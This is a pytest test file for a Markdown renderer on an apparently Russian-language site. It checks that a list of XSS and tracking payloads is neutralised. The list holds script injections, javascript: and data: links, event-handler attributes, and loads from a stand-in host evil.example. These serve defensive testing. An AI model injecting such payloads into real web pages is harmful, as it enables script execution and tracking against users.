"""The safe Markdown renderer against an XSS and tracking corpus (no app needed)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from school.markdown import markdown_to_text, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '![a](x" onerror="alert(1))',
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{background:url(https://evil.example/t.png)}</style>",
    '<div style="background:url(https://evil.example/t.png)">x</div>',
    "<link rel=attachment href=file:///etc/passwd>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=p></form>",
    "<object data=https://evil.example/x.swf></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "[ref][evil]\n\n[evil]: data:text/html,xss",
    "![tracker][t]\n\n[t]: https://evil.example/pixel.gif",
    "![tracker](https://evil.example/pixel.gif)",
    "![tracker](//evil.example/pixel.gif)",
    "![local file](file:///etc/passwd)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "``<script>``",
]


def _tags(html: str) -> set[str]:
    return {t.lower() for t in re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", html)}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    html = str(render_markdown(payload))
    lowered = html.lower()
    assert _tags(html) <= {"p", "a", "img", "code", "strong", "em"}
    assert not re.search(r"<a[^>]+href=\"(?:javascript|data|vbscript)", lowered)
    assert not re.search(r"\son\w+\s*=", re.sub(r"&lt;.*?&gt;", "", lowered))
    # A bare URL in the text is a link (as on GitHub), but nothing is ever loaded from it.
    assert "evil.example" not in " ".join(re.findall(r'src="([^"]*)"', lowered))
    assert "file:" not in " ".join(re.findall(r'(?:src|href)="([^"]*)"', lowered))


def test_raw_html_is_shown_as_text_not_dropped():
    html = str(render_markdown("Пишите <b>жалобу</b> сразу"))
    assert "&lt;b&gt;жалобу&lt;/b&gt;" in html


def test_ordinary_markdown_renders():
    html = str(
        render_markdown('## Шаги\n\n1. Позвоните "адвокату"\n2. **Не** подписывайте -- ничего')
    )
    assert "<h2>Шаги</h2>" in html
    assert "<ol>" in html and "<strong>Не</strong>" in html
    assert "«адвокату»" in html and "подписывайте&nbsp;— ничего" in html


def test_safe_links_and_uploaded_images_kept():
    image = "/images/" + "a" * 64 + ".jpg"
    html = str(render_markdown(f"[ОВД](https://example.org/a) ![схема]({image})"))
    assert 'href="https://example.org/a"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert f'src="{image}"' in html
    # Other paths on the site are no images of a text either.
    assert "src" not in str(render_markdown("![схема](/static/img/favicon.svg)"))


def test_plain_text_for_search():
    # Plain text, not HTML: what was typed comes back as typed (whoever shows it escapes it).
    assert markdown_to_text("# Пенсия\n\n*Как* получать <script>x</script> & Ко") == (
        "Пенсия\nКак получать <script>x</script> & Ко"
    )


@given(st.text(max_size=300))
def test_any_text_renders_without_script_tags(text):
    html = str(render_markdown(text))
    assert "<script" not in html.lower()
    assert " on" not in "".join(re.findall(r"<[^>]*>", html)).lower().replace("noopener", "")


def test_rendering_is_remembered_per_text_and_bounded(monkeypatch):
    from school import markdown as markdown_module

    monkeypatch.setattr(markdown_module, "RENDER_CACHE_SIZE", 3)
    monkeypatch.setattr(markdown_module, "_rendered", type(markdown_module._rendered)())
    first = render_markdown("**один**")
    assert render_markdown("**один**") == first == "<p><strong>один</strong></p>"
    # A changed text is rendered anew, never served from the cache of the old one.
    assert render_markdown("**один** и два") == "<p><strong>один</strong> и&nbsp;два</p>"
    for n in range(5):
        assert render_markdown(f"текст {n}") == f"<p>текст {n}</p>"
    assert len(markdown_module._rendered) == 3
    assert "один" not in "".join(
        r.html for r in markdown_module._rendered.values()
    )  # the oldest went first
